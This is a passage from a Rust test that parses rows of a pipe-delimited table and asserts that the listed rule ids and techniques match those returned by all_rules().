            let cells: Vec<&str> = l.split('|').map(str::trim).collect();
            Some((cells.get(1)?.trim_matches('`'), *cells.get(4)?))
        })
        .collect();
    let want: Vec<(&str, &str)> = all_rules().map(|r| (r.id, r.technique)).collect();
    assert_eq!(listed, want);
}
